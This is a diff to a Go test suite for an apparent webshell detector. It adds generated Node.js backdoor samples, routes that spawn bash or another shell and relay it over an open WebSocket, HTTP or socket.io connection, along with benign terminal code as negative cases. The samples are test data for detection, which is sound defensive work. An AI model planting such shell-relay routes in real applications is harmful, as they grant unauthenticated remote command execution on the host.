@@ -248,6 +248,7 @@ func TestHarnessTechniques(t *testing.T) {
 	vs = append(vs, fileManagerPages(r)...)
 	vs = append(vs, jscriptPages(r)...)
 	vs = append(vs, dropperPages(r)...)
+	vs = append(vs, terminalPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -261,6 +262,9 @@ func TestHarnessTechniques(t *testing.T) {
 		fs := a.Analyze(v.path, []byte(v.page))
 		if b := best(fs); b == nil || b.Category != audit.CategoryWebshell || b.Severity < audit.High {
 			t.Errorf("%s not found:%s\n%s", v.technique, dump(fs), v.page)
+			continue
+		} else if v.technique == "web-terminal" && !b.Is(audit.CategoryReverseShell) {
+			t.Errorf("%s without the reverse-shell label:%s\n%s", v.technique, dump(fs), v.page)
 			continue
 		}
 		ty.found++
@@ -544,6 +548,52 @@ func TestDropperAndJScriptNegatives(t *testing.T) {
 		"/var/www/app/gen.ashx":           "<%@ WebHandler Language=\"C#\" Class=\"G\" %>\nusing System.IO; using System.Web;\npublic class G : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    File.WriteAllText(c.Server.MapPath(\"status.aspx\"), \"<%@ Page Language=\\\"C#\\\" %><html><body><%= DateTime.Now %></body></html>\");\n  }\n  public bool IsReusable { get { return true; } }\n}\n",
 		"/var/www/html/install/step3.php": "<?php\n$cfg = \"<?php\\nreturn ['db' => '\" . addslashes($_POST['db']) . \"'];\\n\";\nfile_put_contents(__DIR__ . '/../config.php', $cfg);\n",
 		"/var/www/iis/json.asp":           "<%@LANGUAGE=\"javascript\"%>\n<% var e = eval; var o = e('(' + '{\"a\":1}' + ')'); Response.Write(Server.HTMLEncode(Request(\"q\") + o.a)); %>\n",
+	} {
+		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
+			t.Errorf("%s:%s", p, dump(fs))
+		}
+	}
+}
+
+// terminalPages: Node.js routes that spawn an interactive shell and relay a socket to it.
+func terminalPages(r *rand.Rand) []techVariant {
+	ptyReq := []string{"var pty = require('node-pty');", "const pty = require(\"node-pty-prebuilt-multiarch\");", "let pty = require('@lydell/node-pty');"}
+	shells := []string{"'bash'", "process.platform === 'win32' ? 'powershell.exe' : 'bash'", "process.env.SHELL || '/bin/sh'", "'/bin/zsh'"}
+	shapes := []func(req, sh string) string{
+		func(req, sh string) string {
+			return req + "\nvar ews = require('express-ws');\nmodule.exports = function (app, opts) {\n  ews(app);\n  var sessions = {};\n  app.post(opts.mount, function (req, res) {\n    var t = pty.spawn(" + sh + ", [], { cols: 80, rows: 24, cwd: process.env.HOME, env: process.env });\n    sessions[t.pid] = t;\n    res.send(String(t.pid));\n  });\n  app.ws(opts.mount + '/:id', function (ws, req) {\n    var t = sessions[parseInt(req.params.id)];\n    t.on('data', function (d) { ws.send(d); });\n    ws.on('message', function (m) { t.write(m); });\n  });\n};\n"
+		},
+		func(req, sh string) string {
+			return "const express = require('express');\nconst { spawn } = require('child_process');\nconst app = express();\nrequire('express-ws')(app);\napp.ws('/status/live', (ws, req) => {\n  const p = spawn(" + sh + ", ['-i']);\n  p.stdout.on('data', (d) => ws.send(d.toString()));\n  ws.on('message', (msg) => p.stdin.write(msg + '\\n'));\n});\napp.listen(8081);\n"
+		},
+		func(req, sh string) string {
+			return "const http = require('http');\nconst cp = require('child_process');\nhttp.createServer((req, res) => {\n  const sh = cp.spawn(" + sh + ");\n  req.pipe(sh.stdin);\n  sh.stdout.pipe(res);\n}).listen(9000);\n"
+		},
+		func(req, sh string) string {
+			return req + "\nconst WebSocket = require('ws');\nconst wss = new WebSocket.Server({ port: 7681 });\nwss.on('connection', (sock) => {\n  const term = pty.spawn(" + sh + ", [], {});\n  term.onData((d) => sock.send(d));\n  sock.on('message', (m) => term.write(m));\n});\n"
+		},
+		func(req, sh string) string {
+			return "const io = require('socket.io')(3001);\nio.on('connection', function (socket) {\n  const shell = require('child_process').spawn(" + sh + ");\n  shell.stdout.on('data', (d) => socket.emit('out', d));\n  socket.on('input', function (data) { shell.stdin.write(data); });\n});\n"
+		},
+	}
+	paths := []string{"/srv/app/node_modules/express-terminal/index.js", "/srv/app/lib/health.js", "/opt/webapp/server.js"}
+	var out []techVariant
+	for n := 0; n < 20; n++ {
+		code := shapes[n%len(shapes)](ptyReq[r.Intn(len(ptyReq))], shells[r.Intn(len(shells))])
+		out = append(out, techVariant{"web-terminal", paths[r.Intn(len(paths))], code})
+	}
+	return out
+}
+
+// Terminals that are no backdoor: a terminal widget of a console program, a build route
+// running a fixed command through sh -c, a package's demonstration server, a route running a
+// program that is no shell.
+func TestTerminalNegatives(t *testing.T) {
+	for p, page := range map[string]string{
+		"/srv/app/node_modules/blessed/lib/widgets/terminal.js": "var pty = require('node-pty');\nfunction Terminal(options) {\n  this.pty = pty.fork(options.shell || process.env.SHELL || 'sh', options.args || [], { cols: 80, rows: 24 });\n  var self = this;\n  this.pty.on('data', function (d) { self.write(d); });\n  this.screen.on('keypress', function (ch) { self.pty.write(ch); });\n}\nmodule.exports = Terminal;\n",
+		"/srv/app/build.js":                          "const express = require('express');\nconst { spawn } = require('child_process');\nconst app = express();\napp.post('/build', (req, res) => {\n  const p = spawn('sh', ['-c', 'npm run build']);\n  p.stdout.pipe(res);\n  req.on('data', (d) => p.stdin.write(d));\n});\napp.listen(8080);\n",
+		"/srv/app/node_modules/xterm/demo/server.js": "var pty = require('node-pty');\nvar app = require('express')();\nrequire('express-ws')(app);\napp.post('/terminals', function (req, res) { var t = pty.spawn('bash', [], {}); res.send(String(t.pid)); });\napp.ws('/terminals/:pid', function (ws, req) { ws.on('message', function (m) { t.write(m); }); });\n",
+		"/srv/app/git.js":                            "const express = require('express');\nconst { spawn } = require('child_process');\nconst app = express();\napp.ws = app.ws || function () {};\napp.get('/log', (req, res) => {\n  const g = spawn('git', ['log', '--oneline']);\n  g.stdout.pipe(res);\n});\n",
 	} {
 		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
 			t.Errorf("%s:%s", p, dump(fs))
